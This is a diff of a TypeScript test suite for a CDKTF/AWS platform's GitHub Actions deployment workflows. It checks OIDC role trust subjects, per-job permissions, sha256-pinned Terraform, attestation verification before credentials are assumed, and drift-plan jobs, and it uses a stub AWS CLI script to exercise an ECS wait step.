@@ -1,4 +1,4 @@
-import { execSync, spawnSync } from "node:child_process";
+import { execFileSync, execSync, spawnSync } from "node:child_process";
 import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
@@ -6,9 +6,10 @@ import { Testing } from "cdktf";
 import { parseDocument, parse as parseYaml } from "yaml";
 import type { Platform } from "../app";
 import { ENVIRONMENT_VARIABLES, REPOSITORY_VARIABLES, STACK_VARIABLES, stackVariable } from "../config/github-variables";
-import { environmentAccount, Naming } from "../config/naming";
+import { environmentAccount, GITHUB_WORKFLOWS, Naming } from "../config/naming";
 import type { PlatformConfig } from "../config/types";
 import { TERRAFORM_VERSION } from "../lib/terraform-version";
+import { driftFromPlan } from "../scripts/drift";
 import { buildSample, oneAccountConfig, sampleConfig } from "./support/sample";
 import { parse, resources, type SynthesizedTerraform } from "./support/synth";
 
@@ -121,6 +122,74 @@ const runs = (pattern: RegExp) => (s: Step) => pattern.test(s.run ?? "");
  */
 const PINNED_USES_LINE =
   /^\s*(?:-\s+)?uses:\s+[A-Za-z0-9_.-]+\/[A-Za-z0-9_.-]+(?:\/[A-Za-z0-9_./-]+)?@[0-9a-f]{40}\s+#\s+v\d+(?:\.\d+)*\s*$/;
+/** The step that installs Terraform pinned by the zip's sha256, in every job with an id-token that runs it. */
+const PINNED_TERRAFORM_STEP = "Install Terraform (pinned by sha256)";
+/** The step that checks, before any credential, that synthesized Terraform calls nothing but AWS. */
+const VET_STEP = "Check the Terraform runs nothing but AWS";
+/** True when the job's token can be exchanged for an OIDC token (and so for a role). */
+const holdsIdToken = (job: Job): boolean => job.permissions?.["id-token"] === "write";
+/** Runs a script as `shell: bash` does on GitHub (bash --noprofile --norc -eo pipefail) in `cwd`, with only `env` and PATH. */
+function bash(script: string, env: Record<string, string>, cwd: string) {
+  const result = spawnSync("bash", ["--noprofile", "--norc", "-eo", "pipefail", "-c", script], {
+    cwd,
+    env: { PATH: process.env.PATH, RUNNER_TEMP: cwd, ...env },
+    encoding: "utf8",
+  });
+  return { status: result.status, log: `${result.stdout}${result.stderr}` };
+}
+/**
+ * A stand-in `aws` on PATH for a step run under test: it records each call's arguments (`calls()`),
+ * answers `ecs describe-services` (task definition `<service>:7` per service asked for, no failure) and
+ * `ecs describe-task-definition` (the image `FAKE_AWS_IMAGES` maps the service to, else its `"*"`), and
+ * fails `ecs wait` when the services asked for include `FAKE_AWS_UNSTABLE`.
+ */
+function fakeAws(cwd: string): { path: string; calls: () => string[] } {
+  const bin = join(cwd, "fake-bin");
+  mkdirSync(bin, { recursive: true });
+  const log = join(cwd, "aws-calls.txt");
+  writeFileSync(log, "");
+  const script = `#!/bin/bash
+printf '%s\\n' "$*" >> ${JSON.stringify(log)}
+case "$1 $2" in
+  "ecs wait") [[ -n "$FAKE_AWS_UNSTABLE" && " $* " == *" $FAKE_AWS_UNSTABLE "* ]] && exit 255; exit 0 ;;
+  "ecs describe-services")
+    services=(); while [ $# -gt 0 ]; do
+      if [ "$1" = --services ]; then shift; while [ $# -gt 0 ] && [[ "$1" != --* ]]; do services+=("$1"); shift; done; else shift; fi
+    done
+    printf '%s\\n' "\${services[@]}" | jq -R . |
+      jq -sc '{services: map({serviceName: ., taskDefinition: "arn:aws:ecs:eu-west-1:1:task-definition/\\(.):7"}), failures: []}' ;;
+  "ecs describe-task-definition")
+    while [ "$1" != --task-definition ]; do shift; done
+    service=\${2##*/}; service=\${service%:*}
+    jq -r --arg s "$service" '.[$s] // .["*"]' <<< "$FAKE_AWS_IMAGES" ;;
+  *) echo "fake aws: unexpected call: $*" >&2; exit 2 ;;
+esac
+`;
+  writeFileSync(join(bin, "aws"), script, { mode: 0o755 });
+  return {
+    path: `${bin}:${process.env.PATH}`,
+    calls: () =>
+      readFileSync(log, "utf8")
+        .split("\n")
+        .filter((l) => l !== ""),
+  };
+}
+/** The synthesized stack with `count` more ECS services, copies of its first named `<name>-worker-<i>`; and every service's name. */
+function withMoreServices(tf: SynthesizedTerraform, count: number): { tf: SynthesizedTerraform; names: string[] } {
+  const more = structuredClone(tf) as any;
+  const services: Record<string, { name: string }> = more.resource.aws_ecs_service;
+  const [first] = Object.values(services);
+  for (let i = 1; i <= count; i++) services[`worker_${i}`] = { ...first, name: `${first.name}-worker-${i}` };
+  return { tf: more, names: Object.values(services).map((s) => s.name) };
+}
+/** A checkout-like directory holding `tf` as cdktf.out/stacks/<stack>/cdk.tf.json. */
+function stackCheckout(stack: string, tf: unknown): string {
+  const cwd = mkdtempSync(join(tmpdir(), "step-"));
+  const dir = join(cwd, "cdktf.out", "stacks", stack);
+  mkdirSync(dir, { recursive: true });
+  writeFileSync(join(dir, "cdk.tf.json"), JSON.stringify(tf));
+  return cwd;
+}
 /** The reusable workflow, the only local `uses:`. */
 const REUSABLE_USES = "./.github/workflows/deploy.yml";
 
@@ -130,10 +199,19 @@ const platform = buildSample(config);
 /** Every account's bootstrap (the shipped config: stage's account's and prod's), synthesized. */
 const bootstraps = Object.values(platform.bootstraps).map((b) => parse(Testing.synth(b)));
 const github = parse(Testing.synth(platform.github));
-const subjects = bootstraps
-  .flatMap((b) => Object.values(resources(b, "aws_iam_role")))
-  .map((r) => JSON.parse(r.assume_role_policy).Statement[0].Condition.StringEquals["token.actions.githubusercontent.com:sub"] as string);
-const trustedEnvironments = subjects.map((s) => /:environment:(.+)$/.exec(s)?.[1]).filter((e): e is string => e !== undefined);
+/** The subjects a role's trust accepts (StringEquals, or StringLike for a pull request's ref); none for a role GitHub cannot assume. */
+function subjectsOf(role: Record<string, any>): string[] {
+  const condition = JSON.parse(role.assume_role_policy).Statement[0].Condition ?? {};
+  const key = "token.actions.githubusercontent.com:sub";
+  return [condition.StringEquals?.[key] ?? condition.StringLike?.[key] ?? []].flat();
+}
+/** The roles of every account's bootstrap. */
+const bootstrapRoles = bootstraps.flatMap((b) => Object.values(resources(b, "aws_iam_role")));
+const subjects = bootstrapRoles.flatMap(subjectsOf);
+const REPO = `${config.project.github.owner}/${config.project.github.repo}`;
+const PR_REF = "refs/pull/*/merge";
+/** The `job_workflow_ref` part of a subject for a workflow file of the config's repository. */
+const workflowRef = (file: string, ref = `refs/heads/${defaultBranch}`) => `job_workflow_ref:${REPO}/${file}@${ref}`;
 const environmentVariableNames = new Set(
   Object.values(resources(github, "github_actions_environment_variable")).map((v) => v.variable_name as string),
 );
@@ -147,6 +225,12 @@ const STAGE = "deploy-stage.yml";
 const PROD = "deploy-prod.yml";
 const DEPLOY = "deploy.yml";
 const DRIFT = "drift.yml";
+const DEPLOY_FILE = `.github/workflows/${DEPLOY}`;
+/** The environments the deploy roles trust (the plan role trusts the plan-<env> environments). */
+const trustedEnvironments = subjects
+  .filter((s) => s.endsWith(`/${DEPLOY_FILE}@refs/heads/${config.project.github.defaultBranch ?? "main"}`))
+  .map((s) => /:environment:([^:]+)/.exec(s)?.[1])
+  .filter((e): e is string => e !== undefined);
 
 /** Every AWS stack of a platform, in drift.yml's order: each account's bootstrap, then each environment. */
 function awsStacks(p: Platform): string[] {
@@ -215,13 +299,14 @@ describe("environments and roles", () => {
     expect(workflows[PROD].jobs.deploy.with?.environment).toBe("prod");
   });
 
-  it("only the reusable workflow's job enters an environment, the one its caller names", () => {
-    expect(jobs.filter((j) => envName(j.job)).map(at)).toEqual([`${DEPLOY} job deploy`]);
+  it("only the reusable workflow's job enters a deploy environment, the one its caller names; the plan job its plan-<env>", () => {
+    expect(jobs.filter((j) => envName(j.job)).map(at)).toEqual([`${DEPLOY} job deploy`, `${PR} job plan`]);
     expect(envName(workflows[DEPLOY].jobs.deploy)).toBe("${{ inputs.environment }}");
+    expect(envName(workflows[PR].jobs.plan)).toBe("plan-${{ matrix.environment }}");
   });
 
-  it("a job in an environment assumes that environment's deploy role from its environment variable", () => {
-    const inEnvironment = jobs.filter((j) => envName(j.job));
+  it("a job in a deploy environment assumes that environment's deploy role from its environment variable", () => {
+    const inEnvironment = jobs.filter((j) => envName(j.job) && !envName(j.job)!.startsWith("plan-"));
     expect(inEnvironment.length).toBeGreaterThan(0);
     for (const j of inEnvironment) {
       const [assume] = stepsUsing(j.job, "aws-actions/configure-aws-credentials");
@@ -229,9 +314,12 @@ describe("environments and roles", () => {
     }
   });
 
-  it("a job without an environment assumes only the plan role, and only on pull_request (the plan role's subject)", () => {
-    expect(subjects).toContain(`repo:${config.project.github.owner}/${config.project.github.repo}:pull_request`);
-    const planners = jobs.filter((j) => !envName(j.job) && assumesRole(j.job) && j.file !== DRIFT);
+  it("only the plan job, on pull_request in a plan-<env> environment, assumes the plan role (its subjects)", () => {
+    for (const env of envNames)
+      expect(subjects).toContain(`repo:${REPO}:environment:plan-${env}:${workflowRef(`.github/workflows/${PR}`, PR_REF)}`);
+    const githubEnvironments = Object.values(resources(github, "github_repository_environment")).map((e) => e.environment);
+    expect(githubEnvironments).toEqual(expect.arrayContaining(envNames.map((e) => `plan-${e}`)));
+    const planners = jobs.filter((j) => !envName(j.job)?.match(/^\$\{\{ inputs\./) && assumesRole(j.job) && j.file !== DRIFT);
     expect(planners.map(at)).toEqual([`${PR} job plan`]);
     for (const j of planners) {
       expect(Object.keys(j.wf.on)).toEqual(["pull_request"]);
@@ -243,15 +331,18 @@ describe("environments and roles", () => {
   });
 
   it("only the drift job assumes the drift role, on the default branch only (the drift role's subject)", () => {
-    expect(subjects).toContain(`repo:${config.project.github.owner}/${config.project.github.repo}:ref:refs/heads/${defaultBranch}`);
+    expect(subjects).toContain(`repo:${REPO}:ref:refs/heads/${defaultBranch}:${workflowRef(`.github/workflows/${DRIFT}`)}`);
     const drifters = jobs.filter((j) =>
       stepsUsing(j.job, "aws-actions/configure-aws-credentials").some((s) =>
         String(s.with?.["role-to-assume"]).includes(STACK_VARIABLES.driftRoleArn),
       ),
     );
-    expect(drifters.map(at)).toEqual([`${DRIFT} job drift`]);
-    expect(workflows[DRIFT].jobs.drift.if).toBe(`github.ref == 'refs/heads/${defaultBranch}'`);
-    expect(envName(workflows[DRIFT].jobs.drift)).toBeUndefined();
+    expect(drifters.map(at)).toEqual([`${DRIFT} job plan`]);
+    // The first job is skipped off the default branch, and every other job needs it.
+    expect(workflows[DRIFT].jobs.synth.if).toBe(`github.ref == 'refs/heads/${defaultBranch}'`);
+    expect(workflows[DRIFT].jobs.plan.needs).toBe("synth");
+    expect(workflows[DRIFT].jobs.report.needs).toBe("plan");
+    expect(envName(workflows[DRIFT].jobs.plan)).toBeUndefined();
   });
 
   it("plans every configured environment", () => {
@@ -328,9 +419,10 @@ describe("permissions and credentials", () => {
     expect(withToken.sort()).toEqual([...assuming, `${STAGE} job attest`, ...callers.map(at)].sort());
   });
 
-  it("only the drift job may write issues, and it asks for nothing else but contents: read and id-token", () => {
-    expect(jobs.filter((j) => j.job.permissions?.issues !== undefined).map(at)).toEqual([`${DRIFT} job drift`]);
-    expect(workflows[DRIFT].jobs.drift.permissions).toEqual({ contents: "read", "id-token": "write", issues: "write" });
+  it("only the drift report may write issues, and it holds no id-token; the drift plan holds the id-token and no issues", () => {
+    expect(jobs.filter((j) => j.job.permissions?.issues !== undefined).map(at)).toEqual([`${DRIFT} job report`]);
+    expect(workflows[DRIFT].jobs.report.permissions).toEqual({ contents: "read", issues: "write" });
+    expect(workflows[DRIFT].jobs.plan.permissions).toEqual({ contents: "read", "id-token": "write" });
   });
 
   it("only the attest job may write attestations; no job that holds, or passes on, an AWS role can", () => {
@@ -342,6 +434,8 @@ describe("permissions and credentials", () => {
 
   it("the callers grant exactly what the reusable deploy asks for, and pass it no secrets", () => {
     expect(callers.map(at).sort()).toEqual([`${PROD} job deploy`, `${STAGE} job deploy`]);
+    // The synth job asks for a subset of it.
+    expect(workflows[DEPLOY].jobs.synth.permissions).toEqual({ contents: "read" });
     for (const c of callers) {
       expect(c.job.permissions).toEqual(workflows[DEPLOY].jobs.deploy.permissions);
       expect(c.job.secrets).toBeUndefined();
@@ -438,12 +532,17 @@ describe("concurrency", () => {
 });
 
 describe("tool versions", () => {
-  it("set up Terraform 1.11.4 without the stdout wrapper wherever terraform or cdktf runs", () => {
+  it("set up Terraform 1.11.4 wherever terraform or cdktf runs: by a pinned sha256 with an id-token, else without the wrapper", () => {
     for (const j of jobs) {
-      const runsTerraform = runLines(j.job).some((l) => /\b(terraform|cdktf)\b/.test(l));
+      const runsTerraform = runLines(j.job).some((l) => /\b(terraform|cdktf) [a-z-]/.test(l));
       const setups = stepsUsing(j.job, "hashicorp/setup-terraform");
-      if (runsTerraform) expect({ job: at(j), setups: setups.length }).toEqual({ job: at(j), setups: 1 });
+      const pinned = (j.job.steps ?? []).filter((s) => s.name === PINNED_TERRAFORM_STEP);
+      const found = { job: at(j), setups: setups.length, pinned: pinned.length };
+      if (runsTerraform) {
+        expect(found).toEqual({ job: at(j), ...(holdsIdToken(j.job) ? { setups: 0, pinned: 1 } : { setups: 1, pinned: 0 }) });
+      }
       for (const s of setups) expect(s.with).toMatchObject({ terraform_version: TERRAFORM_VERSION, terraform_wrapper: false });
+      if (pinned.length > 0) expect(j.job.env?.TERRAFORM_VERSION).toBe(TERRAFORM_VERSION);
     }
   });
 
@@ -631,19 +730,42 @@ describe("the reusable deploy: verify, then assume the role, then deploy the ver
   const wf = workflows[DEPLOY];
   const job = wf?.jobs.deploy;
   const steps = job?.steps ?? [];
+  const synth = wf?.jobs.synth;
   const verify = stepIndex(job ?? {}, runs(/gh attestation verify/));
   const assume = stepIndex(job ?? {}, (s) => action(s.uses) === "aws-actions/configure-aws-credentials");
+  const apply = stepIndex(job ?? {}, runs(/^terraform -chdir="\$STACK_DIR" apply -input=false -no-color tfplan$/m));
+  /** A line that runs terraform, the AWS CLI, skopeo or cdktf (not one that only names them). */
+  const touchesAws = (s: Step) => /(^|\$\(|\|\s*|!\s+|&&\s*)(terraform|aws|skopeo|cdktf|npx cdktf) [a-z-]/m.test(s.run ?? "");
 
-  it("checks the inputs before anything else", () => {
-    const check = steps[0];
-    expect(check.run).toContain('[[ "$IMAGE_DIGEST" =~ ^sha256:[0-9a-f]{64}$ ]]');
-    expect(check.run).toContain('[[ "$COMMIT_SHA" =~ ^[0-9a-f]{40}$ ]]');
-    expect(envOf(wf, job, check)).toMatchObject({ IMAGE_DIGEST: "${{ inputs.image_digest }}", COMMIT_SHA: "${{ inputs.commit_sha }}" });
+  it("checks the inputs before anything else, in both jobs", () => {
+    for (const j of [job, synth]) {
+      const check = j.steps![0];
+      expect(check.run).toContain('[[ "$IMAGE_DIGEST" =~ ^sha256:[0-9a-f]{64}$ ]]');
+      expect(check.run).toContain('[[ "$COMMIT_SHA" =~ ^[0-9a-f]{40}$ ]]');
+      expect(envOf(wf, j, check)).toMatchObject({ IMAGE_DIGEST: "${{ inputs.image_digest }}", COMMIT_SHA: "${{ inputs.commit_sha }}" });
+    }
+    expect(synth.steps![0].run).toBe(steps[0].run);
   });
 
-  it("checks out the commit and downloads the named artifact of the named run", () => {
-    const [checkout] = stepsUsing(job, "actions/checkout");
+  it("synthesizes the commit in a job without id-token, installing without install scripts, and packs it with its sha256", () => {
+    expect(synth.permissions).toEqual({ contents: "read" });
+    const [checkout] = stepsUsing(synth, "actions/checkout");
     expect(checkout.with).toEqual({ ref: "${{ inputs.commit_sha }}", "persist-credentials": false });
+    expect(runLines(synth)).toContain("npm ci --ignore-scripts --no-audit --no-fund");
+    expect(runLines(synth)).toContain("node --import tsx main.ts");
+    expect(JSON.parse(readFileSync(join(ROOT, "cdktf.json"), "utf8")).app).toBe("node --import tsx main.ts");
+    expect(synth.env?.IMAGE_DIGEST).toBe("${{ inputs.image_digest }}");
+    expect(synth.outputs).toEqual({ digest: "${{ steps.pack.outputs.digest }}" });
+    expect(job.needs).toBe("synth");
+    expect(job.env?.RELEASE_DIGEST).toBe("${{ needs.synth.outputs.digest }}");
+    const [upload] = stepsUsing(synth, "actions/upload-artifact");
+    const [, release] = stepsUsing(job, "actions/download-artifact");
+    expect(release.with?.name).toBe(upload.with?.name);
+    expect(release.with).not.toHaveProperty("run-id");
+  });
+
+  it("the deploy job checks nothing out and downloads the named image artifact of the named run", () => {
+    expect(stepsUsing(job, "actions/checkout")).toEqual([]);
     const [download] = stepsUsing(job, "actions/download-artifact");
     expect(download.with).toMatchObject({
       name: "${{ inputs.artifact_name }}",
@@ -663,13 +785,16 @@ describe("the reusable deploy: verify, then assume the role, then deploy the ver
     expect(run).toContain("sha256sum --check");
   });
 
-  it("verifies the attestation before any AWS credential, synth, apply or deploy", () => {
+  it("verifies the attestation, the release's digest and its Terraform before any AWS credential, apply or deploy", () => {
     expect(verify).toBeGreaterThan(0);
     expect(assume).toBeGreaterThan(verify);
-    const touchesAws = steps.flatMap((s, i) => (/\b(cdktf|terraform|aws|skopeo)\b/.test(s.run ?? "") ? [i] : []));
-    expect(touchesAws.length).toBeGreaterThan(0);
-    expect(touchesAws.filter((i) => i < verify)).toEqual([]);
-    expect(touchesAws.filter((i) => i < assume)).toEqual([]);
+    const aws = steps.flatMap((s, i) => (touchesAws(s) ? [i] : []));
+    expect(aws.length).toBeGreaterThan(3);
+    expect(aws.filter((i) => i < assume)).toEqual([]);
+    for (const name of ["Check the release digest and unpack it", VET_STEP, "Check the Terraform deploys the verified image"]) {
+      const i = steps.findIndex((s) => s.name === name);
+      expect({ name, afterVerify: i > verify, beforeAssume: i < assume }).toEqual({ name, afterVerify: true, beforeAssume: true });
+    }
   });
 
   it("verifies the manifest blob against deploy-stage.yml, this repository, the default branch and the commit", () => {
@@ -690,16 +815,20 @@ describe("the reusable deploy: verify, then assume the role, then deploy the ver
     expect(envOf(wf, job, step).GH_TOKEN).toBe("${{ github.token }}");
   });
 
-  it("deploys, as IMAGE_DIGEST, the very digest it verified and pushed", () => {
-    const deploy = stepIndex(job, runs(/cdktf deploy/));
+  it("deploys, as IMAGE_DIGEST, the very digest it verified and pushed, applying the plan it made of the release", () => {
     const push = stepIndex(job, runs(/skopeo copy/));
+    const plan = stepIndex(job, runs(/plan -input=false -no-color -out=tfplan/));
+    const pinned = stepIndex(job, (s) => s.name === "Check the Terraform deploys the verified image");
     expect(push).toBeGreaterThan(assume);
-    expect(deploy).toBeGreaterThan(push);
-    // One value, set once for the job: no step overrides it, none rewrites it through GITHUB_ENV.
-    for (const i of [verify, push, deploy]) expect(envOf(wf, job, steps[i]).IMAGE_DIGEST).toBe("${{ inputs.image_digest }}");
-    expect(steps.filter((s) => s.env && "IMAGE_DIGEST" in s.env)).toEqual([]);
-    expect(runLines(job).filter((l) => /IMAGE_DIGEST=/.test(l))).toEqual([]);
-    expect(steps[deploy].run).toBe('npx cdktf deploy "$ENVIRONMENT" --auto-approve --no-color');
+    expect(plan).toBeGreaterThan(push);
+    expect(apply).toBe(plan + 1);
+    // One value, set once for each job: no step overrides it, none rewrites it through GITHUB_ENV.
+    for (const i of [verify, pinned, push, apply]) expect(envOf(wf, job, steps[i]).IMAGE_DIGEST).toBe("${{ inputs.image_digest }}");
+    for (const j of [job, synth]) {
+      expect((j.steps ?? []).filter((s) => s.env && "IMAGE_DIGEST" in s.env)).toEqual([]);
+      expect(runLines(j).filter((l) => /IMAGE_DIGEST=/.test(l))).toEqual([]);
+    }
+    expect(steps[pinned].run).toContain('all(endswith("@" + $digest))');
   });
 
   it("pushes the verified layout, digest preserved, skipping a digest the repository already holds", () => {
@@ -714,21 +843,18 @@ describe("the reusable deploy: verify, then assume the role, then deploy the ver
     expect(jobText(job)).not.toMatch(/docker (build|pull|load|tag)|buildx/);
   });
 
-  it("creates the image repository alone on the first deploy, after synth and before the push", () => {
-    const synth = stepIndex(job, runs(/^npx cdktf synth$/m));
+  it("creates the image repository alone on the first deploy, after the role and before the push", () => {
     const create = stepIndex(job, runs(/-target="\$ADDRESS"/));
     const push = stepIndex(job, runs(/skopeo copy/));
-    expect(synth).toBeGreaterThan(assume);
-    expect(create).toBeGreaterThan(synth);
+    expect(create).toBeGreaterThan(assume);
     expect(push).toBeGreaterThan(create);
   });
 
   it("runs the database migration from the new task definition after the push and before the service moves to the image", () => {
     const migrate = stepIndex(job, (s) => s.name === "Run the database migration");
     const push = stepIndex(job, runs(/skopeo copy/));
-    const deploy = stepIndex(job, runs(/cdktf deploy/));
     expect(migrate).toBeGreaterThan(push);
-    expect(deploy).toBeGreaterThan(migrate);
+    expect(apply).toBeGreaterThan(migrate);
     const run = steps[migrate].run!;
     // Only what the task needs, taken from the output the stacks declare.
     expect(run).toContain("jq -r '.output.database_migration | [.value, .depends_on] | tostring'");
@@ -752,7 +878,6 @@ describe("the reusable deploy: verify, then assume the role, then deploy the ver
     const order = [
       "Deploy",
       "Wait for the new tasks to serve",
-      "Build the frontend (PLACEHOLDER)",
       "Upload the frontend",
       "Invalidate CloudFront",
       "Smoke-check the API and the site",
@@ -765,6 +890,27 @@ describe("the reusable deploy: verify, then assume the role, then deploy the ver
     expect(smoke.run).toContain('"${SITE_URL%/}/"');
     expect(smoke.run).toContain("$IMAGE_DIGEST");
     expect(smoke.run).toContain('>> "$GITHUB_STEP_SUMMARY"');
+  });
+
+  it("waits for every ECS service of the stack to be stable, ten a call (the waiter's limit), not only the API", () => {
+    const wait = steps.find((s) => s.name === "Wait for the new tasks to serve")!;
+    expect(envOf(wf, job, wait).CLUSTER).toBe("${{ steps.outputs.outputs.ecs_cluster_name }}");
+    const waitFor = (tf: SynthesizedTerraform, unstable = "") => {
+      const cwd = stackCheckout("stage", tf);
+      const aws = fakeAws(cwd);
+      const env = { PATH: aws.path, CLUSTER: "acme-stage", STACK_DIR: "cdktf.out/stacks/stage", FAKE_AWS_UNSTABLE: unstable };
+      return { ...bash(wait.run!, env, cwd), calls: aws.calls() };
+    };
+    const call = (names: string[]) => `ecs wait services-stable --cluster acme-stage --services ${names.join(" ")}`;
+    const shipped = parse(Testing.synth(platform.environments.stage));
+    const api = Object.values(resources(shipped, "aws_ecs_service")).map((s) => s.name as string);
+    expect(api).toHaveLength(1);
+    expect(waitFor(shipped)).toMatchObject({ status: 0, calls: [call(api)] });
+    // Thirteen services: two calls, of ten and of three, and a service that never settles fails the step.
+    const { tf, names } = withMoreServices(shipped, 12);
+    expect(names).toHaveLength(13);
+    expect(waitFor(tf)).toMatchObject({ status: 0, calls: [call(names.slice(0, 10)), call(names.slice(10))] });
+    expect(waitFor(tf, names[12]).status).not.toBe(0);
   });
 
   it("reads only outputs the environment stacks declare, and the one image repository each has", () => {
@@ -787,7 +933,9 @@ describe("deploy-prod: promote the stage run's attested artifact, nothing else",
   it("both environments call the one reusable deploy, the only workflow that deploys", () => {
     expect(workflows[STAGE].jobs.deploy.uses).toBe(REUSABLE_USES);
     expect(prod.jobs.deploy.uses).toBe(REUSABLE_USES);
-    const deployers = jobs.filter((j) => runLines(j.job).some((l) => /^npx cdktf deploy /.test(l))).map(at);
+    const deployers = jobs
+      .filter((j) => runLines(j.job).some((l) => /^(npx cdktf deploy |terraform .*\bapply\b.* tfplan$)/.test(l)))
+      .map(at);
     expect(deployers).toEqual([`${DEPLOY} job deploy`]);
   });
 
@@ -829,7 +977,8 @@ describe("deploy-prod: promote the stage run's attested artifact, nothing else",
 
 describe("drift: a daily read-only plan of every AWS stack, reported by scripts/drift.ts", () => {
   const wf = workflows[DRIFT];
-  const job = wf?.jobs.drift;
+  const job = wf?.jobs.plan;
+  const report = wf?.jobs.report;
 
   it("runs daily and by hand, never on a push or a pull request", () => {
     expect(Object.keys(wf.on).sort()).toEqual(["schedule", "workflow_dispatch"]);
@@ -838,6 +987,7 @@ describe("drift: a daily read-only plan of every AWS stack, reported by scripts/
 
   it("plans every AWS stack the app synthesizes (the github stack needs a GitHub admin token)", () => {
     expect(job.strategy?.matrix?.stack).toEqual(awsStacks(platform));
+    expect(report.strategy?.matrix?.stack).toEqual(job.strategy?.matrix?.stack);
     expect(awsStacks(platform)).toEqual(["bootstrap", "bootstrap-prod", ...envNames]);
   });
 
@@ -846,20 +996,21 @@ describe("drift: a daily read-only plan of every AWS stack, reported by scripts/
     expect(plan).toMatch(/terraform -chdir="\$STACK_DIR" plan .*-lock=false -detailed-exitcode -out=tfplan/);
     expect(plan).toContain('if [ "$code" -ne 0 ] && [ "$code" -ne 2 ]; then');
     expect(plan).toContain("show -json tfplan");
-    const report = job.steps![stepIndex(job, runs(/scripts\/drift\.ts/))];
-    expect(report.run).toBe('npx tsx scripts/drift.ts --stack "$STACK" --exit-code "$EXIT_CODE" --plan "$RUNNER_TEMP/plan.json"');
-    expect(report.env?.GITHUB_TOKEN).toBe("${{ github.token }}");
+    const step = report.steps![stepIndex(report, runs(/scripts\/drift\.ts/))];
+    expect(step.run).toContain('npx tsx scripts/drift.ts --stack "$STACK" --exit-code "$code" --plan "$RUNNER_TEMP/drift/plan.json"');
+    expect(step.env?.GITHUB_TOKEN).toBe("${{ github.token }}");
+    expect(stepsUsing(report, "actions/download-artifact")[0].with?.name).toBe(stepsUsing(job, "actions/upload-artifact")[0].with?.name);
   });
 
   it("plans the image that is deployed, not latest", () => {
-    const synth = job.steps!.find((s) => s.name === "Synthesize with the deployed image")!.run!;
-    expect(synth).toContain("aws ecs describe-task-definition");
-    expect(synth).toContain('IMAGE_DIGEST="${image##*@}" npx cdktf synth');
+    const pin = job.steps!.find((s) => s.name === "Pin the deployed image")!.run!;
+    expect(pin).toContain("aws ecs describe-task-definition");
+    expect(pin).toContain('*@sha256:*) suffix="@${image##*@}" ;;');
   });
 
   it("looks the deployed image up only for a stack with a service, not for any bootstrap (bootstrap-prod included)", () => {
-    const synth = job.steps!.find((s) => s.name === "Synthesize with the deployed image")!.run!;
-    const guard = /if (jq -e '\.resource\.aws_ecs_service' "\$STACK_DIR\/cdk\.tf\.json") > \/dev\/null; then/.exec(synth);
+    const pin = job.steps!.find((s) => s.name === "Pin the deployed image")!.run!;
+    const guard = /tf="\$STACK_DIR\/cdk\.tf\.json"\n\s*if (jq -e '\.resource\.aws_ecs_service' "\$tf") > \/dev\/null; then/.exec(pin);
     expect(guard).not.toBeNull();
     // The shipped config: prod in an account of its own.
     const p = platform;
@@ -869,8 +1020,9 @@ describe("drift: a daily read-only plan of every AWS stack, reported by scripts/
       mkdirSync(dir, { recursive: true });
       writeFileSync(join(dir, "cdk.tf.json"), Testing.synth(p.bootstraps[stack] ?? p.environments[stack]));
       return (
-        spawnSync("bash", ["--noprofile", "--norc", "-c", `${guard![1]} > /dev/null`], { env: { PATH: process.env.PATH, STACK_DIR: dir } })
-          .status === 0
+        spawnSync("bash", ["--noprofile", "--norc", "-c", `tf="$STACK_DIR/cdk.tf.json"; ${guard![1]} > /dev/null`], {
+          env: { PATH: process.env.PATH, STACK_DIR: dir },
+        }).status === 0
       );
     };
     expect(awsStacks(p)).toEqual(["bootstrap", "bootstrap-prod", ...envNames]);
@@ -928,6 +1080,8 @@ describe("plan and drift jobs use the account their stack lives in", () => {
     return text.replace(/\$\{\{\s*(.*?)\s*\}\}/g, (_whole, e: string) => {
       if (e === "toJSON(vars)") return JSON.stringify(ctx.vars);
       if (e === "github.run_id") return "1";
+      // The drift plan job's tarball digest: its steps run here (pick, backend check) do not read it.
+      if (e === "needs.synth.outputs.digest") return "";
       const [, context, name] = /^(matrix|vars|steps\.account\.outputs)\.(\w+)$/.exec(e) ?? [];
       if (context === "matrix") return ctx.matrix[name];
       if (context === "vars") return ctx.vars[name] ?? "";
@@ -994,7 +1148,7 @@ describe("plan and drift jobs use the account their stack lives in", () => {
     const bootstrap = Object.values(p.bootstraps).find((b) => b.accountId === account);
     if (!bootstrap) return undefined;
     const role = Object.values(resources(parse(Testing.synth(bootstrap)), "aws_iam_role")).find((r) => r.name === name);
-    return role && JSON.parse(role.assume_role_policy).Statement[0].Condition.StringEquals["token.actions.githubusercontent.com:sub"];
+    return role && subjectsOf(role).join(", ");
   }
 
   describe.each(layouts)("%s", (_layout, p) => {
@@ -1007,7 +1161,7 @@ describe("plan and drift jobs use the account their stack lives in", () => {
         expect(succeeded(picked)).toEqual({ status: 0, log: "" });
         const naming = new Naming(config.project, account);
         expect(role).toBe(naming.roleArn(naming.planRoleName));
-        expect(trustedSubject(p, role)).toBe(`repo:${config.project.github.owner}/${config.project.github.repo}:pull_request`);
+        expect(trustedSubject(p, role)).toContain(`repo:${REPO}:environment:plan-${env}:${workflowRef(`.github/workflows/${PR}`, PR_REF)}`);
         const backend = (tf.terraform!.backend as { s3: { bucket: string; dynamodb_table: string } }).s3;
         expect(picked.outputs).toMatchObject({ TF_STATE_BUCKET: backend.bucket, TF_LOCK_TABLE: backend.dynamodb_table });
         expect(backend.bucket).toBe(naming.stateBucket);
@@ -1023,7 +1177,7 @@ describe("plan and drift jobs use the account their stack lives in", () => {
         const { picked, checked, role } = simulate(DRIFT, p, stack);
         expect(succeeded(picked)).toEqual({ status: 0, log: "" });
         expect(role).toBe(naming.roleArn(naming.driftRoleName));
-        const subject = `repo:${config.project.github.owner}/${config.project.github.repo}:ref:refs/heads/${defaultBranch}`;
+        const subject = `repo:${REPO}:ref:refs/heads/${defaultBranch}:${workflowRef(`.github/workflows/${DRIFT}`)}`;
         expect(trustedSubject(p, role)).toBe(subject);
         expect(picked.outputs).toMatchObject({ TF_STATE_BUCKET: naming.stateBucket, TF_LOCK_TABLE: naming.lockTable });
         expect(succeeded(checked)).toEqual({ status: 0, log: "" });
@@ -1080,12 +1234,13 @@ describe("dependabot", () => {
   const text = repoFile(".github/dependabot.yml");
   const dependabot = text === undefined ? undefined : (parseYaml(text) as { version: number; updates: Record<string, any>[] });
 
-  it("updates the SHA-pinned actions, the npm packages and the API's base image weekly, one grouped pull request each", () => {
+  it("updates the pinned actions, npm packages, API base image and BuildKit image weekly, one grouped pull request each", () => {
